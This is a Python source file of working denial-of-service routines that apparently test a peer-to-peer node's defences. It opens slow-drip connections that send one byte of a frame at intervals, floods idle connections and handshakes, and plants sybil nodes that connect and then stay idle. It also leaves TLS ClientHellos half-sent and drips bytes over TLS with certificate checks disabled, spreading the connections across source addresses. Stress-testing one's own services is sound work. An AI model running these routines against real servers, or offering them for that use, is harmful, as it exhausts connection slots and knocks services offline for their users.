# SPDX-License-Identifier: GPL-3.0-or-later
"""Connections that cost places, and handshakes that cost time."""
import collections
import errno
import socket
import ssl
import struct
import time

from attack_client import Swarm, is_over, node_id, tell, wait_go


def drippers(options):
    """Each sends one byte of a frame now and then: as many as get in before their handshake, and as many as get in after it."""
    n, inside_n, pause = options['n'], options['inside'], options.get('pause', 0.9)
    swarm = Swarm(options)
    inside = swarm.enter_many(inside_n)
    wait_go()
    for i in range(n - len(inside)):
        swarm.add(200 + i // 4)
    data = struct.pack('>I', 4000) + bytes(4000)
    at = 0
    begun = time.monotonic()
    first_closed, gone = None, False
    next_drip = time.monotonic()
    while not is_over():
        swarm.run(0.05)
        now = time.monotonic()
        if now < next_drip:
            continue
        next_drip = now + pause
        for client in swarm.clients:
            if client.is_open:
                client.write(data[at % len(data):at % len(data) + 1])
        at += 1
        if first_closed is None and any(c.closed for c in inside):
            first_closed = now - begun
        if not gone and all(c.closed for c in inside):
            gone = True
            tell('gone', now - begun)
    tally = swarm.tally()
    tally.update(inside=len(inside), inside_open=sum(1 for c in inside if c.is_open), first_closed=first_closed)
    return tally


def idle(options):
    """Connections that say nothing, opened as quickly as it goes, and opened again when they are closed."""
    swarm = Swarm(options)
    wait_go()
    most_open, tried = 0, False
    while not is_over():
        for _ in range(200):
            if len(swarm.clients) < options['n']:
                swarm.add(len(swarm.clients) // 8)
            if len(swarm.clients) == options['n'] and not tried:
                tried = True
                tell('tried', tried)
        swarm.run(0.05)
        most_open = max(most_open, sum(1 for c in swarm.clients if c.is_open))
    tally = swarm.tally()
    tally.update(attempts=len(swarm.clients), most_open=most_open)
    return tally


def sybils(options):
    """Idle nodes that have shaken hands, as many as get in."""
    swarm = Swarm(options)
    wait_go()
    inside = swarm.enter_many(options['n'])
    tell('inside', len(inside))
    swarm.run(3600, is_over)
    return {'inside': len(inside), 'open': sum(1 for c in inside if c.is_open)}


def handshakes(options):
    """So many connections a second, each of which says who it is, and goes."""
    rate, stay = options['rate'], options.get('stay', 0.3)
    swarm = Swarm(options)
    hands = [swarm.handshake(node_id('hand%d' % i)) for i in range(2000)]
    wait_go()
    begun = time.monotonic()
    attempts, answered, connected = 0, 0, 0
    alive = collections.deque()
    while not is_over():
        due = int((time.monotonic() - begun) * rate)
        while attempts < due:
            client = swarm.add(attempts % 4000)
            swarm.clients.clear()
            client.write(hands[attempts % len(hands)])
            alive.append(client)
            attempts += 1
        swarm.turn(0.005)
        now = time.monotonic()
        while alive and (alive[0].closed or now - alive[0].begun > stay):
            client = alive.popleft()
            connected += client.connected is not None
            answered += client.n_in > 0
            client.end()
    seconds = time.monotonic() - begun
    return {'attempts': attempts, 'rate': attempts / seconds, 'connected': connected, 'answered': answered}


def half_open(options):
    """Connections that begin TLS and never end it: the first bytes of a ClientHello, or a whole one and then nothing."""
    swarm = Swarm(options)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    hello = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), hello)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = hello.read()
    beginnings = [hello[:1], hello[:5], hello[:60], hello]
    wait_go()
    i = 0
    while not is_over():
        while sum(1 for c in swarm.clients if not c.closed) < options['n']:
            c = swarm.add(i // 4)
            c.write(beginnings[i % len(beginnings)])
            i += 1
            if i == options['n']:
                tell('begun', i)
            if i % 50 == 0:
                break
        swarm.clients = [c for c in swarm.clients if not c.closed] if i > 5000 else swarm.clients
        swarm.run(0.05)
    tally = swarm.tally()
    tally.update(attempts=i)
    return tally


def tls_drippers(options):
    """TLS set up, and then a byte of a frame now and then; those who get in only."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    swarm = Swarm(options)
    links = []
    begun = time.monotonic()
    for i in range(options['n']):
        try:
            s = socket.create_connection((swarm.host, swarm.port), 30, source_address=(swarm.source(i // 4), 0))
            s = context.wrap_socket(s)
            node = node_id('tls%d' % i)
            if i % 2:
                s.sendall(swarm.handshake(node))
            links.append(s)
        except OSError:
            pass
    took = time.monotonic() - begun
    wait_go()
    data = struct.pack('>I', 4000) + bytes(4000)
    at, lost = 0, 0
    next_drip = time.monotonic()
    while not is_over():
        time.sleep(0.05)
        if time.monotonic() < next_drip:
            continue
        next_drip += 0.9
        for s in list(links):
            try:
                s.sendall(data[at:at + 1])
            except OSError as e:
                if e.errno != errno.EAGAIN:
                    links.remove(s)
                    lost += 1
        at += 1
    return {'inside': len(links) + lost, 'open': len(links), 'took': took}
